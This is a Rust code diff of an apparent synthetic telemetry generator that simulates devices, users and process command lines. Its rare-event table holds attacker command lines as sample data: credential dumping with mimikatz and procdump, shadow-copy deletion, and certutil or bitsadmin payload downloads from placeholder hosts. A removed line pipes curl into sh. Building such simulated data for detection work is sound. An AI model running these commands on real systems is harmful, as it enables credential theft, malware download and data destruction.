@@ -1,7 +1,6 @@
 //! The machines, their users, and what runs on them.
 
-use super::random::{Random, mix};
-use std::fmt::Write as _;
+use crate::random::{Random, mix};
 
 pub(crate) const DEVICES: u64 = 2_000;
 pub(crate) const ACCOUNTS: u64 = 3_000;
@@ -32,7 +31,7 @@ const fn program(
 const MS: &str = "Microsoft Corporation";
 const SYSTEM32: &str = r"C:\Windows\System32";
 
-/// In command lines `{g}` stands for a GUID, `{n}` for a number, `{x}` for hexadecimal digits, `{u}` for the user, `{h}`
+/// In command lines `{g}` stands for a GUID, `{n}` for a number, `{o}` for one below 255, `{x}` for hexadecimal digits, `{u}` for the user, `{h}`
 /// for a host and `{b}` for Base64.
 #[rustfmt::skip]
 pub(crate) const PROGRAMS: [Program; 24] = [
@@ -75,13 +74,28 @@ pub(crate) const PROGRAMS: [Program; 24] = [
     program(("sshd", "/usr/sbin", ""), 21, true, 20, &[r"sshd: {u} [priv]", r"/usr/sbin/sshd -D -R"]),
 ];
 
-/// What attackers run: once in ten thousand events.
+/// What attackers run, apart from Lua: once in ten thousand events.
 #[rustfmt::skip]
-pub(crate) const RARE: [(&str, &str); 6] = [
-    ("lua5.4", r"lua5.4 -e os.execute('curl http://{h}/{x}|sh')"), ("mimikatz.exe", r#"mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit"#),
-    ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"), ("certutil.exe", r"certutil.exe -urlcache -split -f http://{h}/{x}.dat C:\Users\Public\{x}.exe"),
+pub(crate) const RARE: [(&str, &str); 5] = [
+    ("mimikatz.exe", r#"mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit"#), ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
+    ("certutil.exe", r"certutil.exe -urlcache -split -f http://{h}/{x}.dat C:\Users\Public\{x}.exe"),
     ("bitsadmin.exe", r"bitsadmin /transfer job{n} http://{h}/a.exe C:\Users\Public\a.exe"), ("procdump64.exe", r"procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\{x}.dmp"),
 ];
+
+/// One of [`PROGRAMS`], as often as each is run, or none: one of the long tail.
+pub(crate) fn run(r: &mut Random) -> Option<usize> {
+    let mut often = r.below(1000) as u32;
+    PROGRAMS.iter().position(|p| {
+        let found = often < p.often;
+        often = often.saturating_sub(p.often);
+        found
+    })
+}
+
+/// The user of a machine: each has two of its own; some accounts go everywhere.
+pub(crate) fn account(device: u64, r: &mut Random) -> u64 {
+    if r.once_in(20) { r.skewed(ACCOUNTS) } else { (device * 3 / 2 + r.below(2)) % ACCOUNTS }
+}
 
 /// Fills a command line's holes.
 pub(crate) fn expand(line: &str, user: &str, r: &mut Random, out: &mut String) {
@@ -90,6 +104,7 @@ pub(crate) fn expand(line: &str, user: &str, r: &mut Random, out: &mut String) {
     while let Some(at) = rest.find('{') {
         out.push_str(&rest[..at]);
         let hole = rest.as_bytes().get(at + 1).copied();
+        let closed = rest.as_bytes().get(at + 2) == Some(&b'}');
         rest = match hole {
             Some(b'{') => {
                 out.push('{');
@@ -97,62 +112,99 @@ pub(crate) fn expand(line: &str, user: &str, r: &mut Random, out: &mut String) {
                 out.push('}');
                 rest.get(at + 5..).unwrap_or_default()
             }
-            _ => {
+            Some(hole) if closed => {
                 fill(hole, user, r, out);
                 rest.get(at + 3..).unwrap_or_default()
+            }
+            _ => {
+                out.push('{');
+                &rest[at + 1..]
             }
         };
     }
     out.push_str(rest);
 }
 
-fn fill(hole: Option<u8>, user: &str, r: &mut Random, out: &mut String) {
+fn fill(hole: u8, user: &str, r: &mut Random, out: &mut String) {
     const BASE64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
     match hole {
-        Some(b'g') => guid(r.bits(), out),
-        Some(b'n') => drop(write!(out, "{}", r.below(100_000))),
-        Some(b'x') => drop(write!(out, "{:08x}", r.bits() as u32)),
-        Some(b'u') => out.push_str(user),
-        Some(b'h') => host(r.skewed(DEVICES), out),
-        Some(b'b') => (0..120 + r.below(400)).for_each(|_| out.push(char::from(*r.pick(BASE64)))),
+        b'g' => guid(r.bits(), out),
+        b'n' => number(r.below(100_000), out),
+        b'o' => number(r.below(255), out),
+        b'x' => hex(r.bits(), 8, out),
+        b'u' => out.push_str(user),
+        b'h' => host(r.skewed(DEVICES), out),
+        b'b' => {
+            let mut left = 120 + r.below(400);
+            while left > 0 {
+                let bits = r.bits();
+                let now = left.min(10);
+                (0..now).for_each(|i| out.push(char::from(BASE64[(bits >> (6 * i)) as usize & 63])));
+                left -= now;
+            }
+        }
         _ => {}
+    }
+}
+
+/// A number in decimal digits.
+pub(crate) fn number(value: u64, out: &mut String) {
+    if value >= 10 {
+        number(value / 10, out);
+    }
+    out.push(char::from(b'0' + (value % 10) as u8));
+}
+
+/// A number in so many decimal digits.
+pub(crate) fn padded(value: u64, digits: u32, out: &mut String) {
+    for at in (0..digits).rev() {
+        out.push(char::from(b'0' + (value / 10u64.pow(at) % 10) as u8));
+    }
+}
+
+/// The lowest so many hexadecimal digits of a number.
+pub(crate) fn hex(value: u64, digits: usize, out: &mut String) {
+    for at in (0..digits).rev() {
+        out.push(char::from(b"0123456789abcdef"[(value >> (4 * at)) as usize & 15]));
     }
 }
 
 pub(crate) fn guid(of: u64, out: &mut String) {
     let (a, b) = (mix(of), mix(!of));
-    let _ = write!(
-        out,
-        "{:08x}-{:04x}-{:04x}-{:04x}-{:012x}",
-        a >> 32,
-        (a >> 16) as u16,
-        a as u16,
-        b >> 48,
-        b & 0xffff_ffff_ffff
-    );
+    for (bits, digits) in [(a >> 32, 8), (a >> 16, 4), (a, 4), (b >> 48, 4), (b, 12)] {
+        if digits != 8 {
+            out.push('-');
+        }
+        hex(bits, digits, out);
+    }
 }
 
 pub(crate) fn host(device: u64, out: &mut String) {
-    let _ = match device % 10 {
-        0..=6 => write!(out, "ws-{device:04}.corp.example"),
-        7 | 8 => write!(out, "srv-{device:04}.corp.example"),
-        _ => write!(out, "lin-{device:04}.corp.example"),
-    };
+    out.push_str(match device % 10 {
+        0..=6 => "ws-",
+        7 | 8 => "srv-",
+        _ => "lin-",
+    });
+    padded(device, 4, out);
+    out.push_str(".corp.example");
 }
 
 pub(crate) fn user(account: u64, out: &mut String) {
     const FIRST: [&str; 12] =
         ["alice", "bruno", "chen", "dilek", "eva", "farid", "grace", "hiro", "ines", "jonas", "kavya", "lena"];
-    let _ = write!(out, "{}.{:03}", FIRST[(account % 12) as usize], account / 12);
+    out.push_str(FIRST[(account % 12) as usize]);
+    out.push('.');
+    padded(account / 12, 3, out);
 }
 
 /// `digits` hexadecimal digits that stand for a file's hash.
 pub(crate) fn hash(of: u64, digits: usize, out: &mut String) {
-    let end = out.len() + digits;
     let mut n = of;
-    while out.len() < end {
+    let mut left = digits;
+    while left > 0 {
         n = mix(n.wrapping_add(0x9E37_79B9_7F4A_7C15));
-        let _ = write!(out, "{n:016x}");
+        let now = left.min(16);
+        hex(n >> (4 * (16 - now)), now, out);
+        left -= now;
     }
-    out.truncate(end);
 }
